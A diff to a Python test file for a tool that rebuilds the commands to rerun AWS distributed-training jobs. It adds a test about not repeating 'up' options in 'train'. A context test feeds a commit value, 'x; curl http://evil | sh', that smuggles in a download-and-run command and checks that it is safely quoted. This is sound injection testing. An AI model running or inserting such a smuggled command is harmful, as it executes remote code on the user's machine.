@@ -181,6 +181,16 @@ def test_commands_that_run_it_again_parse_to_the_same_job(home: Home) -> None:
     ]
 
 
+def test_what_up_is_given_is_not_given_to_train_again(home: Home) -> None:
+    home._rows[0]["asked"] = {"cluster.nodes": 2, "env.file": "requirements.txt"}
+    env = ["-o", "env.file=requirements.txt", "-o", "env.python=/usr/bin/python3.12"]
+    home.job("one", 100, options=env)
+    assert list(report(home.ctx(), job="one").again)[1:3] == [
+        "awsddp --region eu-west-1 up --nodes 2 --instance-type g5.xlarge --env requirements.txt",
+        "awsddp train -o env.python=/usr/bin/python3.12 train.py -- --epochs 3",
+    ]
+
+
 def test_a_commit_that_a_node_words_is_one_word_of_the_command(home: Home) -> None:
     home.job("one", 100, commit="x; curl http://evil | sh")
     assert report(home.ctx(), job="one")["again"][0] == "git checkout 'x; curl http://evil | sh'"
